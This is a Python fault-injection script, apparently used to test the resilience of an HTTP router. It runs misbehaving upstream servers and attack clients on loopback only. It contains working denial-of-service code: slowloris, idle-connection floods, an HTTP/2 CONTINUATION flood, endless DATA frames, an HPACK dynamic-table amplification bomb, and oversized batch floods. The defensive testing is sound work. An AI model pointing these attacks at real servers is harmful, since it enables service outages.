#!/usr/bin/env python3
"""Attackers and misbehaving application servers of the fault campaign (scenario.sh faults).

Loopback only; each run stops by itself after --seconds.
  faults.py as MODE --port P --cert C --key K --seconds S
      garbage        plain TCP that answers bytes that are not TLS
      silent         accepts and reads, never writes (a TLS handshake that never completes)
      reset          TLS h2: answers headers and part of a body, then resets the TCP connection
      endless-body   TLS h2: answers headers, then DATA frames without end (a DATA flood)
      continuation   TLS h2: HEADERS without END_HEADERS, then CONTINUATION frames without end
      h2-garbage     TLS h2: answers a request with bytes that are not HTTP/2 frames
      chunk-garbage  TLS http/1.1: a chunked answer whose chunk sizes are not hexadecimal
      endless-h1-headers  TLS http/1.1: a status line, then header lines without end
  faults.py attack NAME --port P --seconds S [--count N] [--rate R]
      idle           N TCP connections that send nothing
      slowloris      N HTTP/1.1 connections sending one header byte a second
      hpack-bomb     h2c requests whose headers reference one large dynamic-table entry many times
      bad-batch      N senders POSTing batches of 10,000 bad lines (~3 MB) over HTTP/1.1
                     keep-alive, back to back or --rate R batches/s each (one process: no
                     process is started per batch, so the attacker's own start-up costs do not
                     compete with the router for the CPU)
"""
import argparse
import os
import resource
import socket
import ssl
import struct
import threading
import time

DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY, CONTINUATION = 0x0, 0x1, 0x3, 0x4, 0x7, 0x9
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def raise_fd_limit():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def recv_exact(sock, n):
    data = b""
    while len(data) < n:
        chunk = sock.recv(n - len(data))
        if not chunk:
            raise ConnectionError("closed")
        data += chunk
    return data


def h2_requests(sock):
    """Yields the stream id of each request the router opens (after the preface exchange)."""
    recv_exact(sock, len(PREFACE))
    sock.sendall(frame(SETTINGS, 0, 0))
    seen = set()
    while True:
        head = recv_exact(sock, 9)
        length = int.from_bytes(head[:3], "big")
        kind, flags = head[3], head[4]
        stream = int.from_bytes(head[5:9], "big") & 0x7FFFFFFF
        if length:
            recv_exact(sock, length)
        if kind == SETTINGS and not flags & 1:
            sock.sendall(frame(SETTINGS, 1, 0))
        elif kind == HEADERS and stream not in seen:
            seen.add(stream)
            yield stream


STATUS_200 = b"\x88"  # HPACK: indexed :status 200


def serve_h2(sock, mode, deadline):
    for stream in h2_requests(sock):
        if mode == "reset":
            sock.sendall(frame(HEADERS, 4, stream, STATUS_200) + frame(DATA, 0, stream, b"{\"partial\":"))
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            return
        if mode == "endless-body":
            sock.sendall(frame(HEADERS, 4, stream, STATUS_200))
            block = frame(DATA, 0, stream, b"x" * 16384) * 8
            while time.monotonic() < deadline:
                sock.sendall(block)
            return
        if mode == "continuation":
            sock.sendall(frame(HEADERS, 0, stream, STATUS_200))
            block = frame(CONTINUATION, 0, stream, b"\x40\x01a\x01b" * 800) * 8
            while time.monotonic() < deadline:
                sock.sendall(block)
            return
        if mode == "h2-garbage":
            sock.sendall(os.urandom(65536))
            return


def serve_h1(sock, mode, deadline):
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = sock.recv(65536)
        if not chunk:
            return
        data += chunk
    if mode == "chunk-garbage":
        sock.sendall(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nzz-not-hex\r\n" + os.urandom(4096))
        time.sleep(1)
    elif mode == "endless-h1-headers":
        sock.sendall(b"HTTP/1.1 200 OK\r\n")
        line = b"X-Filler: " + b"a" * 1000 + b"\r\n"
        while time.monotonic() < deadline:
            sock.sendall(line * 64)


def handle(conn, args, context, deadline):
    conn.settimeout(max(0.1, deadline - time.monotonic()))
    try:
        if args.mode == "garbage":
            conn.recv(65536)
            conn.sendall(b"this is not TLS\r\n" * 256)
            time.sleep(1)
        elif args.mode == "silent":
            while conn.recv(65536):
                pass
        else:
            tls = context.wrap_socket(conn, server_side=True)
            if tls.selected_alpn_protocol() == "h2":
                serve_h2(tls, args.mode, deadline)
            else:
                serve_h1(tls, args.mode, deadline)
    except (OSError, ConnectionError, ssl.SSLError):
        pass
    finally:
        try:
            conn.close()
        except OSError:
            pass


def run_as(args):
    raise_fd_limit()
    deadline = time.monotonic() + args.seconds
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(args.cert, args.key)
    h1 = args.mode in ("chunk-garbage", "endless-h1-headers")
    context.set_alpn_protocols(["http/1.1"] if h1 else ["h2"])
    server = socket.socket()
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(("127.0.0.1", args.port))
    server.listen(256)
    accepted = 0
    while time.monotonic() < deadline:
        server.settimeout(max(0.05, deadline - time.monotonic()))
        try:
            conn, _ = server.accept()
        except socket.timeout:
            break
        accepted += 1
        threading.Thread(target=handle, args=(conn, args, context, deadline), daemon=True).start()
    print(f"accepted {accepted}", flush=True)


def hpack_literal_indexed_name(index, value):
    """Literal header field without indexing, name from the static table; value < 127 bytes."""
    return bytes([index, len(value)]) + value


def hpack_bomb(args, deadline):
    sent = 0
    while time.monotonic() < deadline:
        try:
            sock = socket.create_connection(("127.0.0.1", args.port), timeout=2)
            sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
            stream = 1
            # One 4,000-byte entry in the dynamic table, then ~4,000 one-byte references to it.
            entry = b"\x40\x07x-bombs" + bytes([0x7F] + hpack_length_tail(4000)) + b"a" * 4000
            while time.monotonic() < deadline:
                block = b"\x83\x86" + hpack_literal_indexed_name(0x04, b"/v1/reports") + \
                    hpack_literal_indexed_name(0x01, b"localhost")
                if stream == 1:
                    block += entry
                block += b"\xbe" * 4000
                sock.sendall(frame(HEADERS, 5, stream, block))  # END_STREAM | END_HEADERS
                stream += 2
                sent += 1
                time.sleep(0.002)
        except OSError:
            time.sleep(0.05)
    print(f"sent {sent}", flush=True)


def hpack_length_tail(n):
    """The continuation bytes of an HPACK integer with a 7-bit prefix already set to 127."""
    n -= 127
    out = []
    while n >= 128:
        out.append(n % 128 + 128)
        n //= 128
    out.append(n)
    return out


def read_answer(sock, buffered):
    """Reads one HTTP/1.1 answer with a content-length; returns (status, bytes left over)."""
    while b"\r\n\r\n" not in buffered:
        chunk = sock.recv(65536)
        if not chunk:
            raise ConnectionError("closed")
        buffered += chunk
    head, _, rest = buffered.partition(b"\r\n\r\n")
    lines = head.split(b"\r\n")
    status = int(lines[0].split()[1])
    length = 0
    for line in lines[1:]:
        name, _, value = line.partition(b":")
        if name.strip().lower() == b"content-length":
            length = int(value)
    while len(rest) < length:
        chunk = sock.recv(65536)
        if not chunk:
            raise ConnectionError("closed")
        rest += chunk
    if status == 100:
        return read_answer(sock, rest[length:])
    return status, rest[length:]


def bad_batches(args, deadline):
    pad = "x" * 280
    body = "".join('{"not":"a report","i":%d,"pad":"%s"}\n' % (i, pad) for i in range(10000)).encode()
    request = (f"POST /v1/reports:batch HTTP/1.1\r\nHost: 127.0.0.1:{args.port}\r\n"
               f"Content-Type: application/x-ndjson\r\nContent-Length: {len(body)}\r\n\r\n").encode() + body
    counts = {}
    lock = threading.Lock()

    def sender():
        next_due = time.monotonic()
        while time.monotonic() < deadline:
            try:
                with socket.create_connection(("127.0.0.1", args.port), timeout=5) as sock:
                    left = b""
                    while time.monotonic() < deadline:
                        if args.rate > 0:  # paced: one batch per 1/rate seconds
                            next_due += 1 / args.rate
                            time.sleep(max(0.0, next_due - time.monotonic()))
                        sock.sendall(request)
                        status, left = read_answer(sock, left)
                        with lock:
                            counts[status] = counts.get(status, 0) + 1
            except (OSError, ValueError, IndexError):
                with lock:
                    counts["error"] = counts.get("error", 0) + 1
                time.sleep(0.05)

    threads = [threading.Thread(target=sender, daemon=True) for _ in range(args.count)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    print("batches answered (status count): " + " ".join(f"{n} {s}" for s, n in sorted(counts.items(), key=str)),
          flush=True)


def hold_connections(args, deadline, slow):
    raise_fd_limit()
    socks = []
    for _ in range(args.count):
        if time.monotonic() >= deadline:
            break
        try:
            s = socket.create_connection(("127.0.0.1", args.port), timeout=2)
            if slow:
                s.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\n")
            socks.append(s)
        except OSError:
            break
    print(f"opened {len(socks)}", flush=True)
    while time.monotonic() < deadline:
        time.sleep(1)
        if slow:
            for s in list(socks):
                try:
                    s.send(b"X")
                except OSError:
                    socks.remove(s)
    print(f"still open {len(socks)}", flush=True)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("role", choices=["as", "attack"])
    parser.add_argument("mode")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--seconds", type=float, default=5)
    parser.add_argument("--count", type=int, default=100)
    parser.add_argument("--rate", type=float, default=0, help="bad-batch: batches/s per sender (0: back to back)")
    parser.add_argument("--cert")
    parser.add_argument("--key")
    args = parser.parse_args()
    deadline = time.monotonic() + args.seconds
    if args.role == "as":
        run_as(args)
    elif args.mode == "idle":
        hold_connections(args, deadline, False)
    elif args.mode == "slowloris":
        hold_connections(args, deadline, True)
    elif args.mode == "hpack-bomb":
        hpack_bomb(args, deadline)
    elif args.mode == "bad-batch":
        bad_batches(args, deadline)
    else:
        parser.error("unknown attack")


if __name__ == "__main__":
    main()
